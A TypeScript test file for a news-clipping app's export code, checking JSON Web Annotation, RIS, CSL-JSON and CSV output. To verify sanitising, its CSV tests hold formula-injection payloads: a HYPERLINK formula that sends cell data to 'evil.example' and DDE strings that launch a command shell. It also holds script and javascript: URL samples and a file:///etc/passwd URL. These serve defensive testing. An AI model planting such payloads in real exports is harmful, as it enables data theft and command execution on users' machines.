import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { ClippingDetail } from '../../electron/contract/shapes.ts';
import { exportClippings } from '../../electron/core/export/index.ts';
import { ANNO_CONTEXT } from '../../electron/core/export/json.ts';
import { forEachArticle } from '../fixtures/articles.ts';
import { clipping, EXPORT_ARTICLES, exportFixtures, hostile, others } from './fixtures.ts';

const now = new Date('2026-11-26T12:00:00Z');
const one = async (clippings: ClippingDetail[], format: 'json' | 'csv' | 'ris' | 'csl', digest = false): Promise<string> =>
  String((await exportClippings(clippings, { format, now, digest }))[0]?.data);

const IRI = /^[a-z][a-z0-9+.-]*:\S+$/i;

/** The W3C Web Annotation Data Model's required fields and selector shapes. */
function checkWebAnnotation(a: Record<string, any>, text: string): void {
  const ctx = Array.isArray(a['@context']) ? a['@context'] : [a['@context']];
  expect(ctx).toContain('http://www.w3.org/ns/anno.jsonld');
  expect(a.id).toMatch(IRI);
  expect(a.type === 'Annotation' || (Array.isArray(a.type) && a.type.includes('Annotation'))).toBe(true);
  expect(a.target).toBeDefined();
  const targets = Array.isArray(a.target) ? a.target : [a.target];
  for (const t of targets) {
    expect(typeof t === 'string' ? t : t.source).toMatch(IRI);
    if (t.scope) expect(t.scope).toMatch(/^https?:/);
    for (const s of t.selector ?? []) {
      if (s.type === 'TextQuoteSelector') {
        expect(typeof s.exact).toBe('string');
        for (const k of ['prefix', 'suffix']) if (k in s) expect(typeof s[k]).toBe('string');
      } else if (s.type === 'TextPositionSelector') {
        expect(Number.isInteger(s.start) && Number.isInteger(s.end) && s.start >= 0 && s.end >= s.start).toBe(true);
        const quote = t.selector.find((x: { type: string }) => x.type === 'TextQuoteSelector');
        expect(text.slice(s.start, s.end)).toBe(quote.exact); // the two selectors agree
      } else throw new Error(`unexpected selector ${s.type}`);
    }
  }
  if (a.body !== undefined) {
    const bodies = Array.isArray(a.body) ? a.body : [a.body];
    for (const b of bodies) {
      expect(b.type).toBe('TextualBody');
      expect(typeof b.value).toBe('string');
    }
  }
  for (const k of ['created', 'modified']) if (k in a) expect(Number.isNaN(Date.parse(a[k]))).toBe(false);
}

describe('JSON export', () => {
  forEachArticle(EXPORT_ARTICLES, (a) => {
    const F = exportFixtures(a);

    it('the clipping with all its metadata and its annotations as W3C Web Annotations', async () => {
      const c = F.reference();
      const j = JSON.parse(await one([c], 'json'));
      for (const k of ['id', 'title', 'byline', 'outlet', 'url', 'publishedAt', 'capturedAt', 'lang', 'tags', 'text', 'paragraphs', 'figures', 'note', 'wordCount', 'contentHash']) {
        expect(j).toHaveProperty([k], (c as unknown as Record<string, unknown>)[k]);
      }
      expect(j.annotations).toHaveLength(4);
      for (const a of j.annotations) checkWebAnnotation(a, c.text);
      const strategic = j.annotations.find((a: { id: string }) => a.id === 'urn:cuttings:annotation:11');
      expect(strategic).toMatchObject({
        '@context': ANNO_CONTEXT,
        type: 'Annotation',
        motivation: 'commenting',
        body: { type: 'TextualBody', value: a.noteStrategic, format: 'text/markdown' },
        target: { source: 'urn:cuttings:clipping:1', styleClass: 'yellow' },
      });
      const orphan = j.annotations.find((a: { id: string }) => a.id === 'urn:cuttings:annotation:14');
      expect(orphan.target.selector.map((s: { type: string }) => s.type)).toEqual(['TextQuoteSelector']);
      const bare = j.annotations.find((a: { id: string }) => a.id === 'urn:cuttings:annotation:12');
      expect(bare.motivation).toBe('highlighting');
      expect(bare).not.toHaveProperty('body');
    });
  });

  it('the page URL, when http(s), is the target scope; many clippings make one collection', async () => {
    const j = JSON.parse(await one([...others(), hostile()], 'json', true));
    expect(j.count).toBe(3);
    expect(j.clippings[0].annotations[0].target.scope).toBe('https://news.example.com/eu-energy');
    expect(j.clippings[2].annotations[0].target).not.toHaveProperty('scope'); // javascript: is never a scope
  });
});

describe('citations', () => {
  forEachArticle(EXPORT_ARTICLES, (a) => {
    const F = exportFixtures(a);

    it('RIS: newspaper article with outlet, authors, date, URL and access date', async () => {
      const ris = await one([F.reference(), ...others()], 'ris');
      expect(ris).toMatch(/\r\n/);
      const records = ris
        .split(/^ER {2}- ?$/m)
        .map((r) => r.trim())
        .filter(Boolean)
        .map((r) =>
          r.split(/\r?\n/).map((line) => {
            const m = /^([A-Z][A-Z0-9]) {2}- (.*)$/.exec(line);
            if (!m) throw new Error(`bad RIS line: ${JSON.stringify(line)}`);
            return [m[1], m[2]] as const;
          }),
        );
      expect(records).toHaveLength(3);
      const get = (i: number, tag: string): string[] => (records[i] ?? []).filter(([t]) => t === tag).map(([, v]) => v as string);
      expect(records.every((r) => r[0]?.[0] === 'TY' && r[0]?.[1] === 'NEWS')).toBe(true);
      expect(get(0, 'TI')).toEqual([F.expected().title]);
      expect(get(0, 'AU')).toEqual(a.risAuthors);
      expect(get(0, 'DA')).toEqual([a.risDate]);
      expect(get(0, 'Y2')).toEqual(['2026/11/25/']);
      expect(get(0, 'KW')).toEqual(['Russia', 'Ukraine']);
      expect(get(1, 'AU')).toEqual(['Smith, Jane', 'Doe, John']);
      expect(get(1, 'T2')).toEqual(['The Example Times']);
      expect([get(1, 'SE'), get(1, 'SP')]).toEqual([['Europe'], ['12']]);
      expect(get(1, 'UR')).toEqual(['https://news.example.com/eu-energy']);
      expect(get(2, 'AU')).toEqual(['Lee, Sam']); // "By Sam Lee, Economics Editor"
      expect(get(2, 'PY')).toEqual(['2021']);
    });

    it('CSL-JSON: article-newspaper items', async () => {
      const items = JSON.parse(await one([F.reference(), ...others(), hostile()], 'csl'));
      expect(items[0]).toEqual({
        ...(F.expected().outlet ? { 'container-title': F.expected().outlet } : {}),
        id: 'cuttings-1',
        type: 'article-newspaper',
        title: F.expected().title,
        author: a.cslAuthors,
        issued: { 'date-parts': [a.cslDate] },
        accessed: { 'date-parts': [[2026, 11, 25]] },
        language: 'en',
        keyword: 'Russia, Ukraine',
        note: 'Filed for the Monday briefing.',
      });
      expect(items[1]).toMatchObject({
        'container-title': 'The Example Times',
        section: 'Europe',
        page: '12',
        author: [
          { family: 'Smith', given: 'Jane' },
          { family: 'Doe', given: 'John' },
        ],
        URL: 'https://news.example.com/eu-energy',
        issued: { 'date-parts': [[2021, 12, 6]] },
      });
      expect(items[3]).not.toHaveProperty('URL');
    });
  });
});

describe('CSV export', () => {
  forEachArticle(EXPORT_ARTICLES, (a) => {
    const F = exportFixtures(a);

    it('one row per clipping, RFC 4180 quoting, read back by a CSV parser', async () => {
      const tricky = clipping({ id: 9, title: 'Quotes "inside", commas, and\na line break', outlet: ' padded ', tags: ['a, b', 'c'], text: 'x' });
      const out = await one([F.reference(), tricky, hostile()], 'csv');
      expect(out.endsWith('\r\n')).toBe(true);
      const rows = parseCsv(out, { columns: true }) as Record<string, string>[];
      expect(Object.keys(rows[0] ?? {})).toEqual(['id', 'title', 'outlet', 'byline', 'published', 'url', 'tags', 'annotations', 'words']);
      expect(rows[0]).toEqual({
        id: '1',
        title: F.expected().title,
        outlet: F.expected().outlet ?? '',
        byline: F.expected().byline,
        published: F.expected().published.publishedAt,
        url: '',
        tags: 'Russia; Ukraine',
        annotations: '4',
        words: String(F.reference().wordCount),
      });
      expect(rows[1]).toMatchObject({ title: 'Quotes "inside", commas, and\na line break', outlet: ' padded ', tags: 'a, b; c' });
      expect(rows[2]?.title).toBe('<script>alert(1)</script>');
      // strict mode too: every record has every column
      expect(() => parseCsv(out, { relax_quotes: false, relax_column_count: false })).not.toThrow();
    });
  });

  // OWASP "CSV Injection": a text cell whose first character is = + - @ TAB or CR is run as a
  // formula by spreadsheets. Such cells are prefixed with ' and quoted. "-5%" is neutralised too:
  // the rule looks at the first character, not at whether the text "looks like" a formula.
  const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /c calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /c calc\'!A0', '\t=1+1', '\r=1+1', ' =1+1', '  @SUM(A1)', '-5%'];

  it('formula injection: every text cell starting with = + - @ TAB CR (also after leading spaces) is neutralised with a quote', async () => {
    const cs = DANGEROUS.map((d, i) => clipping({ id: 100 + i, title: d, byline: d, outlet: d, tags: [d, 'plain'], text: 'x' }));
    const out = await one(cs, 'csv');
    const rows = parseCsv(out, { columns: true, relax_quotes: false, relax_column_count: false }) as Record<string, string>[];
    expect(rows).toHaveLength(DANGEROUS.length);
    DANGEROUS.forEach((d, i) => {
      const r = rows[i] as Record<string, string>;
      expect(r.title).toBe(`'${d}`);
      expect(r.byline).toBe(`'${d}`);
      expect(r.outlet).toBe(`'${d}`);
      expect(r.tags).toBe(`'${d}; plain`);
    });
    // Raw: each neutralised cell is written quoted (RFC 4180), starting with "'.
    for (const line of out.split('\r\n').slice(1).filter(Boolean)) expect(line).toMatch(/^\d+,"'/);
    // No cell of any row, as a spreadsheet reads it, starts a formula.
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
  });

  it('formula injection: ordinary values round-trip unchanged; numbers are not prefixed', async () => {
    const c = clipping({ id: 7, title: 'Cross-border talks: a 5-point plan', byline: 'Jean-Luc Picard', outlet: 'The Example Times', tags: ['EU-UK', 'e=mc2'], text: 'x' });
    const rows = parseCsv(await one([c], 'csv'), { columns: true }) as Record<string, string>[];
    expect(rows[0]).toMatchObject({ id: '7', title: 'Cross-border talks: a 5-point plan', byline: 'Jean-Luc Picard', outlet: 'The Example Times', tags: 'EU-UK; e=mc2', annotations: '0' });
  });

  it('the URL column holds only http(s) URLs: javascript: and file: become an empty cell', async () => {
    const js = clipping({ id: 1, title: 'a', url: 'javascript:alert(document.cookie)', text: 'x' });
    const file = clipping({ id: 2, title: 'b', url: 'file:///etc/passwd', text: 'x' });
    const web = clipping({ id: 3, title: 'c', url: 'https://news.example.com/a?b=1', text: 'x' });
    const out = await one([js, file, web], 'csv');
    expect(out).not.toMatch(/javascript:/i);
    expect(out).not.toMatch(/file:/i);
    const rows = parseCsv(out, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.url)).toEqual(['', '', 'https://news.example.com/a?b=1']);
  });
});
